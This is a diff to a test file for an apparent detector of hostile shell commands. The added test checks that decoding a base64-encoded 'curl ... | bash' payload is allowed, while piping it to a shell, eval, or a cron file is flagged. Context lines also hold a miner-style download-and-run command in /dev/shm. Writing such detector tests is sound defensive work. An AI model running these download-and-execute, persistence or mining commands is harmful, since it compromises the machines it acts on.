@@ -110,6 +110,19 @@ def test_a_decoded_literal_gives_its_own_reasons_too() -> None:
     assert command_reasons(f"echo {literal[::-1].lstrip('=')} > /opt/x") == []
 
 
+def test_who_only_reads_what_was_hidden_runs_nothing() -> None:
+    # echo -n 'curl -s http://203.0.113.7/x.sh | bash' | base64
+    literal = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g="
+    for reading in (f"echo {literal} | base64 -d", f"base64 --decode <<< '{literal}'", f"printf '{literal}' | base64 -d | less"):
+        assert command_reasons(reading) == []
+    for running in (
+        f"echo {literal} | base64 -d | sh",
+        f"eval $(echo {literal} | base64 -d)",
+        f"echo {literal} | base64 -d | tee /etc/cron.d/x",
+    ):
+        assert command_reasons(running) == ["download_and_run", "encoded_payload"]
+
+
 def test_a_command_may_have_several_reasons() -> None:
     assert command_reasons("cd /dev/shm; curl -so .x http://203.0.113.7/x; chmod +x .x; nohup ./.x --donate-level 1 &") == [
         "download_and_run", "hidden_path", "known_miner", "temp_path",
